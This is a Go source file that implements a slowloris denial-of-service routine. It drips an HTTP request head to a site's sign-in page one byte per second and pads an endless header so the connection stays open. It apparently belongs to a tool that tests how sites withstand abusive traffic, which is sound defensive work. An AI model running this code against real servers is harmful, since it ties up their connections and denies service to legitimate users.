package abuse

import (
	"context"
	"io"
	"time"
)

// loris opens a connection and sends the head of a request a byte a second, until the server has had enough.
func loris(ctx context.Context, t *attempt) {
	sleep(ctx, time.Duration(t.random.Int64N(int64(5*time.Second))))
	for ctx.Err() == nil {
		t.dripHead(ctx)
		sleep(ctx, t.pause)
	}
}

func (t *attempt) dripHead(ctx context.Context) {
	c, err := t.dialPlain(ctx)
	if err != nil {
		t.count(0, err)
		return
	}
	defer func() { _ = c.Close() }()
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		t.answered(ctx, c)
	}()
	head := "GET /sign-in HTTP/1.1\r\nHost: " + t.browser.site + "\r\nX-Slow: "
	for n := 0; ; n++ {
		if n < len(head) {
			_, err = io.WriteString(c, head[n:n+1])
		} else {
			_, err = io.WriteString(c, "x")
		}
		if err != nil {
			<-ended
			return
		}
		select {
		case <-ended:
			return
		case <-ctx.Done():
			_ = c.Close()
			<-ended
			return
		case <-time.After(time.Second):
		}
	}
}
